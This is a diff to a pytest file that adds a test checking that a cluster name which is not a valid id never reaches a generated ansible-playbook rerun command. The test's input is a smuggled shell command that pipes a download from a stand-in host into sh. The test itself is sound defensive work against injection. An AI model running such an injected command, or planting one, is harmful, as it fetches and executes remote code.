@@ -5,6 +5,8 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 from typing import Any
 
 import pytest
@@ -140,6 +142,16 @@ def test_a_note_is_shown_even_where_nothing_is_to_be_done() -> None:
     note = "the server stays on leaf-a: remove the shortcut first to move it to leaf-b"
     text = result_text(run_result(link("leaf-a", "leaf-b", "in_sync", notes=[note])))
     assert text.splitlines()[2:] == ["  leaf-a <-> leaf-b  in sync", f"      note: {note}"]
+
+
+def test_a_name_that_is_no_cluster_id_is_in_no_command() -> None:
+    hostile = "leaf-x'; curl evil.example|sh; '"
+    result = run_result(
+        link("leaf-a", hostile, "blocked", failure=DOWN), link("leaf-a", "leaf-b", "blocked", failure=DOWN)
+    )
+    text = result_text(result, again="ansible-playbook site.yml")
+    *_words, option, only = shlex.split(text.splitlines()[-1])
+    assert (option, json.loads(only)) == ("-e", {"liqo_fabric_only": [["leaf-a", "leaf-b"]]})
 
 
 def test_a_failure_comes_once_with_its_links_and_the_command_for_only_those() -> None:
